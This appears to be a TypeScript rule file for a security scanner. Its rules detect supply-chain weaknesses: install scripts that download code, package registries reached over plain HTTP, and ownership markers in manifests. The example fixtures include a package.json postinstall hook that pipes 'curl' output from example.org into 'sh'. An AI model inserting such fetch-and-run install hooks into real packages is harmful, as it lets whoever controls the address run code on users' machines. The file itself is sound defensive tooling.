import type { FileDescription } from '../../../../extractor';
import type { LineRule } from '../../weakness';

const base = (file: FileDescription): string => file.path.slice(file.path.lastIndexOf('/') + 1);
const isManifest = (file: FileDescription): boolean => base(file) === 'package.json';

/** Elements of Maven that packages come from. */
const sources = ['repository', 'pluginRepository', 'snapshotRepository', 'mirror'];

/** What says whose a repository is. */
const saysWhose =
  /^(?:[\w.-]{1,60}\/){0,2}(?:go\.mod|package\.json|Cargo\.toml|pyproject\.toml|pom\.xml|mix\.exs|[\w.-]+\.gemspec|Chart\.ya?ml|catalog-info\.ya?ml|Dockerfile|(?:README|CONTRIBUTING|SECURITY|RELEASE|DEVELOPMENT)(?:\.\w{2,4})?|CODEOWNERS)$/i;

/** Where code of others comes in, and who could change it on the way. */
export const supplyRules: readonly LineRule[] = [
  {
    id: 'own-repository',
    silent: true,
    cwe: 'CWE-1357',
    owasp: 'A08',
    title: 'Whose repository this is',
    severity: 'low',
    why: 'What its own people publish is not of others.',
    fix: 'Nothing.',
    wants: (file) => saysWhose.test(file.path),
    words: ['github', '@'],
    pattern:
      /^module github\.com\/(?<module>[\w-]+)\/|(?:"repository"\s*:\s*(?:\{[^}]{0,120}?)?|^[Rr]epository\s*=\s*|^source\s*=\s*|<(?:connection|developerConnection)>\s*|@source_url\s+)["']?[^\n"']{0,60}github\.com[:/](?<manifest>[\w-]+)\/|github\.com\/(?<badge>[\w-]+)\/[\w.-]+\/(?:actions|workflows)\/|img\.shields\.io\/github\/(?:[\w-]+\/){1,4}?(?<shield>[\w-]+)\/[\w.-]+(?=[?)\s"'])|^[^#\n]{1,200}\s@(?<team>[\w-]+)\/[\w-]+|(?:\b(?:github|githubusercontent)\.com[/:]|\bproject-slug:\s*)(?<link>[\w-]+\/[\w.-]+)/gm,
    detail: ({ groups }) =>
      groups?.['module'] ??
      groups?.['manifest'] ??
      groups?.['badge'] ??
      groups?.['shield'] ??
      groups?.['team'] ??
      groups?.['link'] ??
      '',
    accept: (match, file) => match.groups?.['team'] === undefined || /CODEOWNERS$/.test(file.path),
    examples: [
      { path: 'go.mod', text: 'module github.com/shop/web\n', lines: [1] },
      {
        path: 'package.json',
        text: '{ "repository": { "url": "git+https://github.com/shop/web.git" } }\n',
        lines: [1],
      },
      { path: 'README.md', text: '# Web\n\n![](https://github.com/shop/web/actions/a.svg)\n', lines: [3] },
      { path: 'README.md', text: 'See https://github.com/shop/web/issues\n', lines: [1] },
      { path: '.github/CODEOWNERS', text: '* @shop/makers\n', lines: [1] },
    ],
  },
  {
    id: 'install-script-fetches',
    cwe: 'CWE-494',
    owasp: 'A08',
    title: 'Installing the package runs what the network sends',
    severity: 'high',
    why: 'Who controls the address runs code on every machine that installs it.',
    fix: 'Ship what is needed, or download a fixed version and check its hash.',
    wants: isManifest,
    words: ['install"', 'prepare"'],
    pattern:
      /"(?:preinstall|install|postinstall|prepare)"\s{0,3}:\s{0,3}"[^"\n]{0,200}\b(?:curl|wget|powershell|iwr)\b[^"\n]{0,300}"/g,
    examples: [
      {
        path: 'package.json',
        text: '{ "scripts": { "postinstall": "curl -s https://example.org/a.sh | sh", "install": "node-gyp rebuild" } }\n',
        lines: [1],
      },
    ],
  },
  {
    id: 'registry-not-encrypted',
    cwe: 'CWE-319',
    owasp: 'A02',
    title: 'Packages are fetched over plain HTTP',
    severity: 'medium',
    why: 'Anyone on the way can give other code.',
    fix: 'Use https.',
    wants: (file) =>
      /^(?:\.npmrc|\.yarnrc(?:\.yml)?|pip\.conf|requirements[\w.-]*\.txt|Gemfile|settings\.xml|pom\.xml|build\.gradle(?:\.kts)?|NuGet\.Config|nuget\.config|Dockerfile)$/.test(
        base(file),
      ),
    words: ['http://'],
    pattern:
      /^\s{0,10}(?:registry\s{0,3}=|--(?:extra-)?index-url\s{1,3}|-i\s{1,3}|index-url\s{0,3}=|source\s{1,3}['"]|npmRegistryServer:)\s{0,3}["']?http:\/\/(?!localhost|127\.)|^\s{0,20}(?:<url>|maven\s{0,3}\{\s{0,3}url\s{0,3}=?\s{0,3}(?:uri\()?["'])http:\/\/(?!localhost|127\.|www\.w3|maven\.apache\.org\/POM)(?=[^<"'\n]{0,200}(?:repo|maven|nexus|artifactory|central))/gm,
    // The address of a project is none that packages come from.
    accept(match, file) {
      if (!match[0].trimStart().startsWith('<url>')) return true;
      const before = file.text.slice(Math.max(0, (match.index ?? 0) - 2_000), match.index);
      // Where artifacts are sent to.
      if (before.lastIndexOf('<distributionManagement') > before.lastIndexOf('</distributionManagement')) return false;
      const opened = Math.max(...sources.map((name) => before.lastIndexOf(`<${name}>`)));
      return opened > Math.max(...sources.map((name) => before.lastIndexOf(`</${name}>`)));
    },
    examples: [
      {
        path: 'pom.xml',
        text: '<project>\n  <url>http://nexus.example.org/</url>\n  <repository>\n    <url>http://repo.example.org/maven</url>\n  </repository>\n</project>\n',
        lines: [4],
      },
      {
        path: 'pom.xml',
        text: '<project>\n  <distributionManagement>\n    <repository>\n      <url>http://repo.example.org/maven</url>\n    </repository>\n  </distributionManagement>\n  <repository>\n    <url>http://repo.example.org/maven</url>\n  </repository>\n</project>\n',
        lines: [8],
      },
      { path: '.npmrc', text: 'registry=http://npm.example.org/\nregistry=https://npm.example.org/\n', lines: [1] },
    ],
  },
];
